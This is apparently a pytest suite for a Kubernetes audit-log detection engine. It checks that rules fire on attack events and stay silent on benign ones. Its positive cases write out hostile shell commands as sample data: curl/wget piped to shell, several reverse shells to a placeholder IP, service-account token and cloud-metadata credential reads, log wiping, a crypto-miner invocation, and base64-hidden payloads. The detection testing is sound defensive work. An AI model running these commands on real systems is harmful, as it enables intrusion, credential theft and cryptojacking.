"""The built-in Kubernetes and generic rules, run on audit events through the real reader and engine."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from execguard.engine.correlate import silent_rules
from execguard.engine.match import Engine
from execguard.engine.rule import procedure_tags
from execguard.model import severity_rank
from execguard.sinks.alert_json import alert_dict
from execguard.sources.reader import Reader
from rules_builder import (
    HUMAN,
    attach_event,
    base_event,
    builtin_rules,
    deny,
    ephemeral_event,
    exec_event,
    hunt,
    hunt_events,
    kubelet_event,
    portforward_event,
    probed,
    rule_ids,
    workload_event,
)
from rules_cases_rbac import add_rbac_cases
from rules_cases_sharper import add_sharper_cases

SA = "system:serviceaccount:ci:runner"
SA_GROUPS = ("system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated")
ANON: dict[str, Any] = {"user": "system:anonymous", "groups": ("system:unauthenticated",)}
KINSING_ARGV = ["bash", "-c", "apt-get update && apt-get install -y wget cron; wget -q -O - http://185.0.2.10/d.sh | sh"]


def ls(**kw: Any) -> dict[str, Any]:
    return exec_event("shop", "web-7d9c", ["ls", "-la", "/app"], **kw)


def sh(cmd: str, **kw: Any) -> dict[str, Any]:
    return exec_event("shop", "web-7d9c", ["sh", "-c", cmd], **kw)


def ctr(argv: list[str], image: str = "ubuntu:22.04", name: str = "main") -> dict[str, Any]:
    return {"name": name, "image": image, "command": argv[:1], "args": argv[1:]}


# rule_id -> (events that must make it fire, events on which it must stay silent)
NODE: dict[str, Any] = {"user": "system:node:ip-10-0-1-12", "groups": ("system:nodes", "system:authenticated")}

CASES: dict[str, tuple[list[dict[str, Any]], list[dict[str, Any]]]] = {
    "k8s-exec-node-identity": (
        [ls(**NODE), kubelet_event("node-1", "run/shop/web/app", [("cmd", "id")], **NODE)],
        [ls(), ls(user="system:kube-controller-manager", groups=("system:authenticated",))],
    ),
    "k8s-exec-api": (
        [ls(), ls(verb="get", stage="ResponseComplete", code=200), attach_event("shop", "web-7d9c")],
        [deny(ls()), portforward_event("shop", "web-7d9c")],
    ),
    "k8s-exec-denied": (
        [deny(ls()), deny(attach_event("shop", "web")), deny(kubelet_event("node-1", "runningpods/")),
         deny(ephemeral_event("shop", "web", "busybox"))],
        [ls(), kubelet_event("node-1", "metrics")],
    ),
    "k8s-exec-anonymous": (
        [ls(**ANON), attach_event("shop", "web", **ANON)],
        [ls(), deny(ls(**ANON))],
    ),
    "k8s-exec-service-account": (
        [ls(user=SA, groups=SA_GROUPS)],
        [ls(), deny(ls(user=SA, groups=SA_GROUPS))],
    ),
    "k8s-exec-pod-token": (
        [ls(user=SA, groups=SA_GROUPS, credential_pod="runner-5f7b9")],
        [ls(user=SA, groups=SA_GROUPS), deny(ls(user=SA, groups=SA_GROUPS, credential_pod="runner-5f7b9"))],
    ),
    "k8s-exec-unusual-client": (
        [ls(user_agent="curl/8.5.0"), ls(user_agent="python-requests/2.31.0", verb="get"), ls(user_agent="Go-http-client/1.1"),
         ls(user=SA, groups=SA_GROUPS, user_agent="kubectl/v1.29.0 (linux/amd64) kubernetes/abc"),
         kubelet_event("node-1", "run/shop/web/app", [("cmd", "id")], user_agent="curl/7.88.1")],
        [ls(), ls(user=SA, groups=SA_GROUPS, user_agent="argo/v3.5 (linux/amd64)"), deny(ls(user_agent="curl/8.5.0"))],
    ),
    "k8s-exec-control-plane": (
        [exec_event("kube-system", "coredns-5d78c9869d-abcde", ["ls"]),
         exec_event("infra", "etcd-master-1", ["etcdctl", "get", "/", "--prefix", "--keys-only"]),
         kubelet_event("node-1", "exec/kube-system/kube-proxy-x1/kube-proxy", [("command", "id")])],
        [ls(), exec_event("kube-systemic", "web", ["ls"]), deny(exec_event("kube-system", "coredns-1", ["ls"]))],
    ),
    "k8s-exec-interactive-shell": (
        [exec_event("shop", "web", ["/bin/bash"], tty=True, stdin=True), attach_event("shop", "web", stdin=True)],
        [exec_event("shop", "web", ["ls"], tty=True, stdin=True), exec_event("shop", "web", ["sh", "-c", "date"]),
         attach_event("shop", "web", stdin=False)],
    ),
    "k8s-kubectl-cp-from-pod": (
        [exec_event("shop", "db-0", ["tar", "cf", "-", "/var/lib/postgresql/data/pg_hba.conf"])],
        [exec_event("shop", "db-0", ["tar", "-xmf", "-", "-C", "/tmp"]), exec_event("shop", "db-0", ["tar", "czf", "/tmp/a.tgz", "/data"])],
    ),
    "k8s-kubectl-cp-to-pod": (
        [exec_event("shop", "db-0", ["tar", "-xmf", "-", "-C", "/tmp"]), exec_event("shop", "db-0", ["tar", "xmf", "-"])],
        [exec_event("shop", "db-0", ["tar", "cf", "-", "/etc/passwd"]), exec_event("shop", "db-0", ["tar", "xzf", "/tmp/a.tgz"])],
    ),
    "k8s-ephemeral-container": (
        [ephemeral_event("shop", "web", "busybox:1.36"), ephemeral_event("shop", "web", "busybox:1.36", verb="update")],
        [deny(ephemeral_event("shop", "web", "busybox:1.36")), ls()],
    ),
    "k8s-ephemeral-offensive-image": (
        [ephemeral_event("shop", "web", "docker.io/kalilinux/kali-rolling:latest")],
        [ephemeral_event("shop", "web", "nicolaka/netshoot:v0.11")],
    ),
    "k8s-kubelet-exec": (
        [kubelet_event("node-1", "run/shop/web/app", [("cmd", "id")]),
         kubelet_event("node-1", "exec/shop/web/app", [("command", "id"), ("output", "1")], verb="get", stage="ResponseStarted", code=101)],
        [kubelet_event("node-1", "metrics/cadvisor"), deny(kubelet_event("node-1", "run/shop/web/app", [("cmd", "id")]))],
    ),
    "k8s-kubelet-anonymous": (
        [kubelet_event("node-1", "runningpods/", **ANON), kubelet_event("node-1", "run/shop/web/app", [("cmd", "id")], **ANON)],
        [kubelet_event("node-1", "runningpods/"), deny(kubelet_event("node-1", "runningpods/", **ANON))],
    ),
    "k8s-kubelet-portforward-cri": (
        [kubelet_event("node-1", "portforward/shop/web", [("port", "5432")]), kubelet_event("node-1", "cri/exec/AbCdEf12")],
        [kubelet_event("node-1", "stats/summary")],
    ),
    "k8s-kubelet-pod-listing": (
        [kubelet_event("node-1", "runningpods/", verb="get"), kubelet_event("node-1", "pods", verb="get")],
        [kubelet_event("node-1", "metrics", verb="get"), kubelet_event("node-1", "podsx", verb="get")],
    ),
    "k8s-portforward": (
        [portforward_event("shop", "db-0")],
        [deny(portforward_event("shop", "db-0")), ls()],
    ),
    "k8s-create-shell-command": (
        [workload_event("pods", "shop", "job-x", [ctr(["/bin/sh", "-c", "echo hello"])]),
         workload_event("deployments", "shop", "web", [ctr(["bash", "-c", "exec nginx"])], verb="patch")],
        [workload_event("pods", "shop", "web", [ctr(["nginx", "-g", "daemon off;"])]),
         deny(workload_event("pods", "shop", "job-x", [ctr(["/bin/sh", "-c", "echo hello"])])),
         workload_event("pods", "shop", "db", [probed(["sh", "-c", "pg_isready -U postgres"])])],
    ),
    # ---- content rules: action-agnostic -------------------------------------------------------
    "cmd-download-pipe-shell": (
        [sh("curl -fsSL http://203.0.113.7/x.sh | bash"), sh("wget -O- http://203.0.113.7/i | sh", space="%20"),
         sh('sh -c "$(curl -s http://203.0.113.7/x)"'),
         sh("python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.7/p').read())\""),
         workload_event("pods", "default", "kinsing", [ctr(KINSING_ARGV)])],
        [sh("curl -fsSL -o /app/out.json http://api.example.com/status"), sh("wget -q http://example.com/file.tar.gz")],
    ),
    "cmd-tmp-executable": (
        [sh("cd /tmp && chmod +x ./kworker && ./kworker"), sh("chmod 755 /dev/shm/.x; /dev/shm/.x"),
         sh("curl -s -o /tmp/.k http://203.0.113.7/k")],
        [sh("chmod +x /app/entrypoint.sh"), sh("chmod 644 /tmp/config.yaml")],
    ),
    "cmd-miner": (
        [sh("/tmp/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4AbC --donate-level 1"),
         exec_event("shop", "web", ["/tmp/kdevtmpfsi"]),
         kubelet_event("node-1", "run/shop/web/app", [("cmd", "./minerd -a cryptonight -o stratum+tcp://x:4444")])],
        [sh("ps aux | grep nginx"), sh("echo mining data report")],
    ),
    "cmd-reverse-shell": (
        [sh("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), sh("nc -e /bin/sh 203.0.113.9 4444"),
         sh("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"),
         sh("socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444"),
         exec_event("shop", "web", ["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));"
                                    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"]),
         exec_event("shop", "web", ["perl", "-e", 'use Socket;$i="203.0.113.9";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'])],
        [sh("nc -z db 5432"), sh("bash -i"), sh("python3 -c 'import socket; print(socket.gethostname())'")],
    ),
    "cmd-credential-access": (
        [sh("cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
         sh("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
         sh('curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'),
         exec_event("shop", "web", ["cat", "/etc/shadow"]), sh("cat /proc/1/environ; id")],
        [sh("cat /etc/hosts"), sh("ls /run/secrets/app"), sh("cat /proc/1/status")],
    ),
    "cmd-log-wipe": (
        [sh("history -c"), sh("unset HISTFILE; id"), sh("rm -f ~/.bash_history"), sh("> /var/log/auth.log"),
         sh("echo > /var/log/syslog"), sh("id && cat /dev/null > /var/log/wtmp"), sh("shred -u /var/log/nginx/access.log")],
        [sh("tail -n 50 /var/log/nginx/error.log"), sh("nginx >> /var/log/nginx/out.log 2>&1"), sh("myapp &> /var/log/app.log")],
    ),
    "cmd-package-install": (
        [sh("apt-get update && apt-get install -y curl"), sh("apk add --no-cache socat"), sh("yum -y install nmap"),
         sh("pip install requests")],
        [sh("apt-cache policy curl"), sh("pip list"), sh("apk info")],
    ),
    "cmd-recon": (
        [sh("nmap -sS 10.0.0.0/24"), sh("masscan -p2375 10.0.0.0/8 --rate 10000"),
         sh("curl -sk https://kubernetes.default.svc/api/v1/secrets -H @/tmp/h"),
         exec_event("shop", "web", ["kubectl", "get", "pods", "-A"]), sh("kubectl auth can-i --list")],
        [sh("curl -s http://localhost:8080/healthz"), exec_event("shop", "web", ["cat", "/etc/resolv.conf"])],
    ),
    "cmd-base64-payload": (
        [sh("echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | bash"), sh("echo aWQ= | base64 --decode | sh"),
         sh("eval \"$(echo aWQK | base64 -d)\"")],
        [sh("echo aGVsbG8= | base64 -d"), sh("base64 /etc/hostname")],
    ),
    "cmd-remote-session": (
        [sh("tmate -S /tmp/tm.sock new-session -d"), sh("./irc-client irc.example-net.org 6667"),
         exec_event("shop", "web", ["ngrok", "tcp", "22"])],
        [sh("tmux ls"), sh("curl http://svc:8080/")],
    ),
}


# issue 9: new rules, and the widened credential and download-and-execute rules
add_sharper_cases(CASES)
add_rbac_cases(CASES)


def _builtin_k8s_generic() -> list[Any]:
    # correlation rules, and the chain steps that only feed them (never alerts), are tested in test_correlate.py and test_chains.py
    silent = silent_rules(builtin_rules())
    return [
        r for r in builtin_rules()
        if r.path.startswith(("builtin:k8s/", "builtin:generic/")) and r.correlation is None and r.rule_id not in silent
    ]


def test_every_k8s_and_generic_rule_has_cases() -> None:
    assert {r.rule_id for r in _builtin_k8s_generic()} == set(CASES)


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_positive(rule_id: str, tmp_path: Path) -> None:
    positives, _ = CASES[rule_id]
    for i, ev in enumerate(positives):
        alerts = hunt_events(tmp_path, [ev], name=f"pos{i}.log")
        assert len(alerts) == 1, (rule_id, i, ev["requestURI"])
        assert rule_id in rule_ids(alerts[0]), (i, ev["requestURI"], rule_ids(alerts[0]))


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_rule_negative(rule_id: str, tmp_path: Path) -> None:
    _, negatives = CASES[rule_id]
    for i, ev in enumerate(negatives):
        alerts = hunt_events(tmp_path, [ev], name=f"neg{i}.log")
        fired = set().union(*(rule_ids(a) for a in alerts)) if alerts else set()
        assert rule_id not in fired, (i, ev["requestURI"], fired)


def test_builtin_rules_are_complete() -> None:
    for rule in builtin_rules():
        assert rule.severity in ("info", "low", "medium", "high", "critical"), rule.rule_id
        assert "attack.t1609" in rule.tags, rule.rule_id
        assert "attack.execution" in rule.tags, rule.rule_id
        assert rule.reason, rule.rule_id
        assert rule.actions, f"{rule.rule_id} does not constrain action: the prefilter would switch off"
        assert rule.sigma_id, rule.rule_id


# ---- encodings, verbs, stages ---------------------------------------------------------------
@pytest.mark.parametrize("space", ["+", "%20"])
@pytest.mark.parametrize("verb", ["create", "get"])
def test_command_decoded_from_uri_either_encoding(space: str, verb: str, tmp_path: Path) -> None:
    ev = sh("curl -fsSL http://203.0.113.7/x.sh | bash", space=space, verb=verb)
    assert ("+" in ev["requestURI"]) == (space == "+")
    [alert] = hunt_events(tmp_path, [ev])
    assert alert.event.command == ["sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | bash"]
    assert alert.severity == "critical"
    assert alert.lead.rule_id == "cmd-download-pipe-shell"


def test_multi_stage_exec_is_one_alert(tmp_path: Path) -> None:
    started = sh("xmrig -o stratum+tcp://pool:3333", audit_id="aaaaaaaa-0000-4000-8000-000000000001")
    complete = dict(started, stage="ResponseComplete", responseStatus={"metadata": {}, "code": 200})
    alerts = hunt_events(tmp_path, [started, complete])
    assert len(alerts) == 1
    assert alerts[0].event.stage == "ResponseStarted"


def test_human_ls_is_low_or_medium(tmp_path: Path) -> None:
    for ev in (ls(), ls(verb="get", space="%20"), exec_event("shop", "web", ["ls"], tty=True, stdin=True)):
        [alert] = hunt_events(tmp_path, [ev])
        assert severity_rank(alert.severity) <= severity_rank("medium"), alert_dict(alert)["rules"]


def test_interactive_shell_by_human_is_medium(tmp_path: Path) -> None:
    [alert] = hunt_events(tmp_path, [exec_event("shop", "web", ["bash"], tty=True, stdin=True, verb="get")])
    assert alert.severity == "medium"
    assert rule_ids(alert) == {"k8s-exec-api", "k8s-exec-interactive-shell"}


def test_miner_download_through_exec_is_critical(tmp_path: Path) -> None:
    ev = sh("wget -q -O - http://203.0.113.7/xmrig.sh | sh; /tmp/xmrig --donate-level 1 -o stratum+tcp://pool.minexmr.com:4444")
    [alert] = hunt_events(tmp_path, [ev])
    assert alert.severity == "critical"
    assert {"cmd-miner", "cmd-download-pipe-shell", "k8s-exec-api"} <= rule_ids(alert)
    assert "S0599 Kinsing" in alert_dict(alert)["procedures"]


def test_kinsing_create_time_entrypoint(tmp_path: Path) -> None:
    ev = workload_event("deployments", "default", "ubuntu", [ctr(KINSING_ARGV)])
    [alert] = hunt_events(tmp_path, [ev])
    assert alert.event.action == "create"
    assert alert.severity == "critical"
    assert {"cmd-download-pipe-shell", "cmd-package-install", "k8s-create-shell-command"} <= rule_ids(alert)
    assert "S0599 Kinsing" in alert_dict(alert)["procedures"]


def test_base64_hidden_payload_is_seen(tmp_path: Path) -> None:
    # "curl http://203.0.113.7/x | sh" only appears after decoding
    [alert] = hunt_events(tmp_path, [sh("echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | bash")])
    assert {"cmd-base64-payload", "cmd-download-pipe-shell"} <= rule_ids(alert)
    assert alert.severity == "critical"


def test_anonymous_kubelet_run_is_critical_hildegard(tmp_path: Path) -> None:
    ev = kubelet_event("node-1", "run/shop/web/app", [("cmd", "curl -s http://203.0.113.7/tmate | sh")], **ANON)
    [alert] = hunt_events(tmp_path, [ev])
    assert alert.severity == "critical"
    assert "S0601 Hildegard" in alert_dict(alert)["procedures"]
    assert {"k8s-kubelet-anonymous", "k8s-kubelet-exec"} <= rule_ids(alert)


def test_peirates_style_exec_is_high(tmp_path: Path) -> None:
    ev = exec_event("payments", "api-0", ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
                    user="system:serviceaccount:shop:web", groups=SA_GROUPS, credential_pod="web-7d9c",
                    user_agent="Go-http-client/1.1", verb="get")
    [alert] = hunt_events(tmp_path, [ev])
    assert alert.severity == "high"
    assert "S0683 Peirates" in alert_dict(alert)["procedures"]


def test_reasons_are_rendered(tmp_path: Path) -> None:
    [alert] = hunt_events(tmp_path, [sh("nc -e /bin/sh 203.0.113.9 4444", user=HUMAN)])
    reasons = alert_dict(alert)["reasons"]
    assert reasons[0].startswith("exec in shop/web-7d9c")
    assert "nc -e /bin/sh" in reasons[0]
    assert not any("{" in r for r in reasons)


# ---- real samples -----------------------------------------------------------------------------
def test_falco_exec_and_attach_samples_alert(data: Path) -> None:
    exec_alerts = hunt([data / "falco" / "exec_pod.json"])
    attach_alerts = hunt([data / "falco" / "attach_pod.json"])
    assert len(exec_alerts) == 1 and len(attach_alerts) == 1
    # kubectl exec -it ... bash by minikube-user: an interactive shell, not an attack
    assert exec_alerts[0].severity == "medium"
    assert rule_ids(exec_alerts[0]) == {"k8s-exec-api", "k8s-exec-interactive-shell"}
    assert rule_ids(attach_alerts[0]) == {"k8s-exec-api", "k8s-exec-interactive-shell"}


def test_falco_other_samples_do_not_alert_above_low(data: Path) -> None:
    others = [p for p in (data / "falco").glob("*.json") if p.name not in ("exec_pod.json", "attach_pod.json", ROLE_SAMPLE)]
    alerts = hunt(others)
    assert all(severity_rank(a.severity) <= severity_rank("low") for a in alerts), [alert_dict(a)["rules"] for a in alerts]


ROLE_SAMPLE = "create_cluster_role_pod_exec.json"


def test_falco_cluster_role_with_exec_is_a_grant(data: Path) -> None:
    # Falco's "ClusterRole With Pod Exec Created" sample: a grant of exec, medium since issue 9 item 5
    [alert] = hunt([data / "falco" / ROLE_SAMPLE])
    assert alert.lead.rule_id == "k8s-rbac-exec-role"
    assert alert.severity == "medium"
    assert alert.lead.reason == "minikube-user create ClusterRole some-reader granting pods/exec (its rules)"


def test_audit2rbac_demo_nothing_above_low(data: Path) -> None:
    alerts = hunt([data / "audit2rbac" / "demo.log"])
    assert all(severity_rank(a.severity) <= severity_rank("low") for a in alerts)


def test_prefilter_does_not_change_results(tmp_path: Path, data: Path) -> None:
    events = [ls(), sh("history -c"), deny(ls()), kubelet_event("node-1", "runningpods/"),
              workload_event("pods", "d", "p", [ctr(KINSING_ARGV)]), base_event("list", "/api/v1/pods", {"resource": "pods"}, code=200)]
    path = tmp_path / "mixed.log"
    path.write_text("".join(json.dumps(e) + "\n" for e in events), encoding="utf-8")
    shutil.copy(data / "falco" / "exec_pod.json", tmp_path / "exec_pod.json")
    with_filter = hunt([tmp_path])
    engine = Engine(builtin_rules())
    without = list(engine.run(Reader(literals=None).read([str(tmp_path)])))
    assert [alert_dict(a) for a in with_filter] == [alert_dict(a) for a in without]
    assert len(with_filter) == 6


def test_procedure_tags_map_to_names() -> None:
    names = {n for r in builtin_rules() for n in procedure_tags(r.tags)}
    assert {"S0601 Hildegard", "S0599 Kinsing", "S0683 Peirates", "S0623 Siloscape", "G0139 TeamTNT"} <= names


@pytest.mark.parametrize("hook", ["lifecycle.postStart", "lifecycle.preStop", "livenessProbe", "readinessProbe", "startupProbe"])
def test_hook_and_probe_commands_are_create_time_commands(hook: str, tmp_path: Path) -> None:
    """The kubelet runs exec hooks and probes inside the container: a miner there is as bad as in the entrypoint."""
    ev = workload_event("pods", "shop", "web", [probed(["sh", "-c", "curl -s http://203.0.113.7/m.sh | sh"], hook)])
    [alert] = hunt_events(tmp_path, [ev])
    assert alert.event.action == "create" and alert.event.command_origin == hook
    assert alert.severity == "critical" and "cmd-download-pipe-shell" in rule_ids(alert)
    assert f"[{hook}]" in alert.lead.reason or any(f"[{hook}]" in m.reason for m in alert.matches)
    assert alert_dict(alert)["command_origin"] == hook


def test_plain_probes_do_not_alert(tmp_path: Path) -> None:
    pods = [
        workload_event("pods", "shop", "web", [probed(["cat", "/tmp/healthy"])]),
        workload_event("deployments", "shop", "db", [probed(["sh", "-c", "pg_isready -U postgres"], "readinessProbe")]),
        workload_event("pods", "shop", "nginx", [probed(["/bin/sh", "-c", "sleep 5 && nginx -s quit"], "lifecycle.preStop")]),
    ]
    assert hunt_events(tmp_path, pods) == []


def test_json_patch_adding_a_post_start_hook(tmp_path: Path) -> None:
    ev = workload_event("deployments", "shop", "web", [], verb="patch")
    ev["requestObject"] = [
        {"op": "add", "path": "/spec/template/spec/containers/0/lifecycle",
         "value": {"postStart": {"exec": {"command": ["sh", "-c", "/tmp/xmrig -o stratum+tcp://pool.example:4444"]}}}},
        {"op": "replace", "path": "/spec/template/spec/containers/1/command", "value": ["nginx"]},
    ]
    [alert] = hunt_events(tmp_path, [ev])
    assert alert.event.command_origin == "lifecycle.postStart"
    assert "cmd-miner" in rule_ids(alert)
